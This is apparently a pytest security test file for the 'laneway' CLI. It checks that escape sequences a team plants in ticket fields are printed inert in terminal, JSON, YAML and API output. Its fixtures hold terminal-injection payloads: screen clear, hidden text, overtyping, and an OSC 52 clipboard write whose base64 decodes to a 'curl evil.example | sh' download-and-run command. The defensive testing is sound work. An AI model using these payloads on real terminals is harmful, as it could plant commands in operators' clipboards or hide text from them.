"""A team writing terminal escape sequences for the operator's terminal (the review after
issue 11): free text a team token may set (annotation values, a ticket's rows, the condition
messages the ticket check writes from them) is printed by `laneway get` and `describe`; an
ESC in it would clear the operator's screen (`ESC[2J`), write their clipboard (OSC 52) or
hide text. Against a real `laneway up`, through the real `laneway` command, in-process and as
its own process: no raw ESC, BEL or C1 byte reaches the output, and `-o json` / `-o yaml`
still read back to exactly what the team wrote."""

from __future__ import annotations

import json
import os
import pty
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest
import yaml
from cli_harness import CLI_TIMEOUT, Cli, Up, cli_env
from click.testing import CliRunner, Result
from security_harness import TEAM_NAMESPACE, admin_token_of, up_client

from laneway.cli.main import main

EXAMPLES = Path(__file__).parents[2] / "examples"
GROUP = "/apis/laneway.dev/v1alpha1"
CLEAR = "\x1b[2J\x1b[H"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07"
HIDDEN = "\x1b[8mhidden\x1b[0m\rovertyped\x9b31m"
PAYLOAD = CLEAR + CLIPBOARD + HIDDEN
RAW = ("\x1b", "\x07", "\x9b", "\r")


def _ticket() -> dict[str, Any]:
    """The pr-review example ticket, moved to the team's namespace, with escapes in every free
    text row the team writes and one that reaches a condition message (the hardware row's CEL)."""
    ticket: dict[str, Any] = yaml.safe_load((EXAMPLES / "tickets" / "pr-review.yaml").read_text())
    ticket["spec"]["lifecycle"]["retireAfter"] = "2099-06-30"
    ticket["metadata"] = {"name": "pr-review", "namespace": TEAM_NAMESPACE,
                          "annotations": {"note": "see " + PAYLOAD}, "labels": {"team": "tools"}}
    ticket["spec"]["model"]["job"] = "review" + PAYLOAD
    ticket["spec"]["endpoint"]["owner"]["contact"] = "#oncall" + PAYLOAD
    ticket["spec"]["hardware"]["devices"][0]["selectors"] = [
        {"cel": f'device.attributes["gpu.nvidia.com"].productName == "{PAYLOAD}"'}]
    return ticket


@pytest.fixture(scope="module")
def planted(up: Up) -> dict[str, Any]:
    """The team's ticket, created with a team token, once its check has written its status."""
    with up_client(up, admin_token_of(up)) as admin:
        made = admin.post(f"{GROUP}/tokens", json={"role": "team", "namespaces": [TEAM_NAMESPACE]})
        assert made.status_code == 201, made.text
    with up_client(up, made.json()["token"]) as team:
        created = team.post(f"{GROUP}/namespaces/{TEAM_NAMESPACE}/inferencetickets", json=_ticket())
        assert created.status_code == 201, created.text
        deadline = time.monotonic() + 60
        stored: dict[str, Any] = created.json()
        while time.monotonic() < deadline and not stored.get("status", {}).get("conditions"):
            time.sleep(0.2)
            stored = team.get(f"{GROUP}/namespaces/{TEAM_NAMESPACE}/inferencetickets/pr-review").json()
    assert stored.get("status", {}).get("conditions"), f"the ticket check never wrote a status: {stored}"
    assert stored["metadata"]["annotations"]["note"] == "see " + PAYLOAD, "stored as the team wrote it"
    assert any(PAYLOAD in c["message"] for c in stored["status"]["conditions"]), "and quoted in a condition message"
    return stored


def _on_a_terminal(cli: Cli, *args: str) -> Result:
    """The real `laneway` command in-process, as on a terminal: click strips CSI sequences
    (not OSC, not CR) from output that is not a terminal, and must get no help from that here."""
    env: dict[str, str | None] = {"LANEWAY_DATA_DIR": str(cli.data_dir), "LANEWAY_SERVER": None, "LANEWAY_TOKEN": None}
    return CliRunner().invoke(main, list(args), env=env, color=True, catch_exceptions=False)


def _assert_inert(output: str) -> None:
    found = [c for c in RAW if c in output]
    assert not found, f"raw control characters {found!r} reached the terminal: {output!r}"


@pytest.mark.parametrize("args", [
    ("get", "inferencetickets", "-n", TEAM_NAMESPACE),
    ("get", "inferencetickets", "-n", TEAM_NAMESPACE, "-o", "wide"),
    ("get", "inferencetickets", "-A", "--show-labels"),
    ("describe", "inferenceticket", "pr-review", "-n", TEAM_NAMESPACE),
    ("get", "inferenceticket", "pr-review", "-n", TEAM_NAMESPACE, "-o", "jsonpath={.spec.model.job}"),
    ("get", "inferenceticket", "pr-review-\x1b]52;c;eA==\x07", "-n", TEAM_NAMESPACE),
])
def test_a_team_cannot_write_escape_sequences_into_the_operators_terminal(
        up_cli: Cli, planted: dict[str, Any], args: tuple[str, ...]) -> None:
    """Attack: OSC 52 (clipboard), ESC[2J (clear), SGR 8 (hidden), CR (overtype) and a C1 CSI in
    a team's annotation, ticket rows and the condition that quotes them; the last case is an
    error message that quotes what was asked for."""
    result = _on_a_terminal(up_cli, *args)
    _assert_inert(result.output)
    if args[0] == "describe":
        assert result.exit_code == 0, result.output
        assert "see ^[[2J^[[H^[]52;c;" in result.output, "the annotation is shown, escaped, not dropped"
    if "jsonpath" in args[-1]:
        assert result.output.startswith("review^[[2J"), result.output


@pytest.mark.parametrize("fmt, load", [("json", json.loads), ("yaml", yaml.safe_load)])
def test_json_and_yaml_output_carry_the_escapes_as_escapes_and_read_back_exactly(
        up_cli: Cli, planted: dict[str, Any], fmt: str, load: Any) -> None:
    result = _on_a_terminal(up_cli, "get", "inferenceticket", "pr-review", "-n", TEAM_NAMESPACE, "-o", fmt)
    assert result.exit_code == 0, result.output
    _assert_inert(result.output)
    document = load(result.output)
    assert document["metadata"]["annotations"]["note"] == "see " + PAYLOAD
    assert document["spec"]["model"]["job"] == "review" + PAYLOAD


def _in_a_pty(up: Up, *args: str) -> str:
    """What `python -m laneway.cli.main ARGS` writes to a real terminal (a pty: click strips
    nothing there), its own process and streams, stderr included."""
    controller, terminal = pty.openpty()
    with subprocess.Popen([sys.executable, "-m", "laneway.cli.main", *args], stdin=subprocess.DEVNULL, stdout=terminal,
                          stderr=terminal, env=cli_env(up.data_dir)) as program:
        os.close(terminal)
        chunks = []
        while True:
            try:
                chunk = os.read(controller, 65536)
            except OSError:  # EIO: the program exited and closed the terminal
                break
            if not chunk:
                break
            chunks.append(chunk)
        assert program.wait(timeout=CLI_TIMEOUT) == 0, b"".join(chunks)
    os.close(controller)
    return b"".join(chunks).decode()


def test_the_real_program_on_a_real_terminal_prints_the_escapes_inert(up: Up, planted: dict[str, Any]) -> None:
    shown = _in_a_pty(up, "describe", "inferenceticket", "pr-review", "-n", TEAM_NAMESPACE)
    _assert_inert(shown.replace("\r\n", "\n"))  # the pty's own line discipline turns \n into \r\n
    assert "see ^[[2J^[[H^[]52;c;" in shown


def test_the_dashboard_api_view_is_json_escaped(up: Up, planted: dict[str, Any]) -> None:
    """The dashboard renders what the API returns; the API's JSON carries no raw ESC either."""
    with up_client(up, admin_token_of(up)) as admin:
        body = admin.get(f"{GROUP}/namespaces/{TEAM_NAMESPACE}/inferencetickets/pr-review").content
    assert b"\x1b" not in body and b"\\u001b" in body
